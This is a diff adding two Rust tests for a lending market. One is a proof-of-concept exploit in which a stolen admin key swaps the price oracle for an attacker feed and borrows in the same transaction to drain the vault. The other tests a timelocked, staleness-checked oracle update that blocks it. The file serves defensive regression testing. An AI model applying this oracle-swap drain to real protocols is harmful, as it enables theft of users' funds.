@@ -0,0 +1,59 @@
+#[tokio::test]
+async fn test_oracle_swap_exploit() {
+    println!("\n=== EXPLOIT: Oracle Replaced And Used In One Transaction ===\n");
+
+    let stolen_admin = Keypair::new();
+    let mallory = Keypair::new();
+    let config = initialize_market(&stolen_admin, &honest_oracle(1_000_000)).await;
+    fund_vault(10_000 * LAMPORTS_PER_SOL).await;
+    deposit_collateral(&mallory, 10_000).await;
+
+    println!("1. Mallory's feed reports 1,000x the collateral price");
+    let attacker_oracle = create_attacker_feed(1_000_000_000).await;
+
+    println!("\n2. [update_oracle(attacker_oracle), borrow(vault balance)]");
+    // Vulnerable: new oracle used by the very next instruction
+    send_transaction(
+        &[
+            update_oracle_ix(&config, &stolen_admin, &attacker_oracle),
+            borrow_ix(&config, &mallory, &attacker_oracle, 10_000 * LAMPORTS_PER_SOL),
+        ],
+        &[&stolen_admin, &mallory],
+    )
+    .await
+    .unwrap();
+
+    assert_eq!(get_vault_balance().await, 0);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Vault drained against 10,000 tokens of collateral");
+}
+
+#[tokio::test]
+async fn test_oracle_update_timelocked() {
+    println!("\n=== SECURITY: Two-Step Oracle Update With Timelock ===\n");
+
+    let stolen_admin = Keypair::new();
+    let config = initialize_market(&stolen_admin, &honest_oracle(1_000_000)).await;
+    let attacker_oracle = create_attacker_feed(1_000_000_000).await;
+
+    println!("1. Propose, then accept immediately");
+    propose_oracle(&config, &stolen_admin, &attacker_oracle).await.unwrap();
+    let result = accept_oracle(&config, &stolen_admin, &attacker_oracle).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: TimelockNotElapsed");
+    assert_eq!(get_config(&config).await.oracle, honest_oracle(1_000_000));
+    println!("   ✓ Borrows still priced by the current oracle");
+
+    println!("\n2. 24 hours later, a feed that stopped publishing");
+    warp_forward_seconds(ORACLE_TIMELOCK_SECS).await;
+    let result = accept_oracle(&config, &stolen_admin, &attacker_oracle).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: StaleOracle");
+
+    println!("\n3. Queued feed publishes, then is accepted");
+    publish_price(&attacker_oracle, 1_000_000).await;
+    accept_oracle(&config, &stolen_admin, &attacker_oracle).await.unwrap();
+    assert_eq!(get_config(&config).await.oracle, attacker_oracle);
+    println!("   ✓ Change visible on-chain for 24 hours before it applied");
+}